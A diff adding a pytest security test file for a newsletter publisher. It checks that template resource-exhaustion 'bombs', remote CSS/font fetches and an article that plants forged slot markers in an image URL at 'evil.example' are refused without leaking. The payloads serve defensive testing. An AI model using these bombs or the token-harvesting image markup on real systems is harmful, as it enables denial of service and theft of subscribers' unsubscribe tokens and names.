@@ -1,0 +1,196 @@
+"""Templates and articles that try to hang a render, fetch from the network or steal a
+recipient's values: refused with the template's line, zero requests, nothing leaked."""
+
+from __future__ import annotations
+
+import email
+import email.policy
+import hashlib
+import http.server
+import json
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from publisher.build import build, load_articles
+from publisher.config import Publication, load_config
+from publisher.digest import Window, compose_issue
+from publisher.personalize import Recipient, prepare
+from publisher.templating import TemplateError
+from publisher.tokens import Signer
+
+from .conftest import NOW
+
+BOMBS = {
+    "power": "{{ 10**(10**10) }}",
+    "nested-ranges": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
+    "nested-strings": "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
+    "repetition": "{{ 'x' * 10**12 }}",
+    "list-repetition": "{{ [1] * 10**10 }}",
+    "percent-width": "{{ '%0999999999d' % 1 }}",
+    "format-width": "{{ '{:999999999}'.format(1) }}",
+    "center": "{{ 'x' | center(10**9) }}",
+    "method": "{{ 'x'.ljust(10**9) }}",
+    "output": "{% for i in range(100000) %}{{ 'x' * 999999 }}{% endfor %}",
+    "recursion": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
+}
+
+
+def render_bombs(folder: str) -> None:
+    """In a process of its own (a bomb without limits would hang the test run): compose
+    the example's digest with each bomb as its template, print what came of it."""
+    pub = load_config(Path(folder) / "schedule.yaml")
+    articles = load_articles(pub, build(pub, NOW, write=False).published)[:3]
+    results = {}
+    for name, body in BOMBS.items():
+        (pub.templates_dir / "digest.html").write_text("line one\n" + body + "\n", "utf-8")
+        try:
+            compose_issue(pub, pub.digest("weekly"), articles, 1, Window(None, NOW), NOW)
+            results[name] = "rendered"
+        except TemplateError as exc:
+            results[name] = str(exc)
+    print(json.dumps(results))
+
+
+def test_template_bombs_are_refused_with_their_line(example: Path) -> None:
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            f"from tests.test_hostile_templates import render_bombs; render_bombs({str(example)!r})",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=Path(__file__).resolve().parent.parent,
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    results = json.loads(done.stdout)
+    for name, message in results.items():
+        # The output as a whole is too long: no one line is to blame.
+        prefix = "digest.html: template: " if name == "output" else "digest.html:2: template: "
+        assert message.startswith(prefix), (name, message)
+    assert "too large a number" in results["power"]
+    assert "loop turns" in results["nested-ranges"] and "loop turns" in results["nested-strings"]
+    assert (
+        "repetition longer than" in results["repetition"]
+        and "repetition" in results["list-repetition"]
+    )
+    assert "too wide" in results["percent-width"]
+    assert "format width" in results["format-width"]
+    assert "center() with 1000000000" in results["center"]
+    assert "argument 1000000000" in results["method"]
+    assert "output is longer than" in results["output"]
+    assert "too deeply" in results["recursion"]
+
+
+def test_a_subject_bomb_fails_check_with_a_clear_line(example: Path) -> None:
+    config = example / "schedule.yaml"
+    text = config.read_text().replace(
+        'subject: "Kestrel Bay Notes: {{ first.title }}', 'subject: "{{ 10**(10**10) }}'
+    )
+    config.write_text(text)
+    done = subprocess.run(
+        [sys.executable, "-m", "publisher", "-c", str(config), "check", "--now", NOW.isoformat()],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env={"PUBLISHER_SECRET": "test-secret-0123456789", "PATH": "/usr/bin:/bin"},
+    )
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+    assert "schedule.yaml: subject: 10 ** 10000000000 is too large a number" in done.stderr
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """An HTTP server on 127.0.0.1 that records every request it gets."""
+    requests: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            requests.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "text/css")
+            self.end_headers()
+            self.wfile.write(b"p { color: red; }")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", requests
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(timeout=5)
+
+
+def compose(pub: Publication) -> list[str]:
+    articles = load_articles(pub, build(pub, NOW, write=False).published)[:3]
+    return compose_issue(pub, pub.digest("weekly"), articles, 1, Window(None, NOW), NOW).warnings
+
+
+def test_css_imports_links_urls_and_fonts_fetch_nothing(
+    example: Path, listener: tuple[str, list[str]]
+) -> None:
+    url, requests = listener
+    pub = load_config(example / "schedule.yaml")
+    style = pub.templates_dir / "style.css"
+    style.write_text(
+        f'@import url("{url}/import.css");\n@import "{url}/import2.css";\n'
+        f'@font-face {{ font-family: Evil; src: url("{url}/font.woff"); }}\n'
+        f'body {{ background: url("{url}/background.png"); }}\n' + style.read_text()
+    )
+    digest_html = pub.templates_dir / "digest.html"
+    digest_html.write_text(
+        digest_html.read_text().replace(
+            "{% block content %}",
+            f'{{% block content %}}<style>@import url("{url}/inline.css"); p {{ color: blue; }}</style>'
+            f'<link rel="stylesheet" href="{url}/link.css">',
+            1,
+        )
+    )
+    assert "{% block content %}" in (example / "templates/email/digest.html").read_text()
+    warnings = compose(pub)
+    assert requests == []
+    assert any("@import" in w for w in warnings), warnings
+
+
+def test_an_article_cannot_forge_a_slot_marker(example: Path) -> None:
+    """The old markers were derived from public values: an article could write one into an
+    image URL on its own server and collect every reader's unsubscribe token."""
+    forged = (
+        "XPUBSLOTUNSUBSCRIBE_URLX"
+        + hashlib.sha256(b"weekly-1:unsubscribe_url").hexdigest()[:16]
+        + "X"
+    )
+    named = "XPUBSLOTNAMEX" + hashlib.sha256(b"weekly-1:name").hexdigest()[:16] + "X"
+    (example / "articles" / "zz-harvest.md").write_text(
+        "---\ntitle: Harvest\ndate: 2026-11-27\nsummary: see below\n---\n"
+        f'<img src="https://evil.example/p?t={forged}&n={named}" alt="x"> xpubslot{forged}\n'
+    )
+    pub = load_config(example / "schedule.yaml")
+    entries = build(pub, NOW, write=False).published
+    articles = [a for a in load_articles(pub, entries) if a.slug == "zz-harvest"]
+    digest = pub.digest("weekly").model_copy(update={"content": "full"})
+    issue = compose_issue(pub, digest, articles, 1, Window(None, NOW), NOW)
+    letters = prepare(pub, issue, Signer([b"test-key-0123456789abcdef"]))
+    recipient = Recipient("ann@example.org", "Ann Secretname", "pub1d")
+    message = email.message_from_bytes(letters.render(recipient), policy=email.policy.default)
+    token = letters.unsubscribe_link(recipient).rsplit("/", 1)[1]
+    for part in message.walk():
+        if part.get_content_maintype() != "text":
+            continue
+        body = part.get_content()
+        for line in body.splitlines():
+            if "evil.example" in line:
+                assert token not in line and "Secretname" not in line, line
+        assert "XPUBSLOT" not in body.upper().replace("XPUB-SLOT", "")
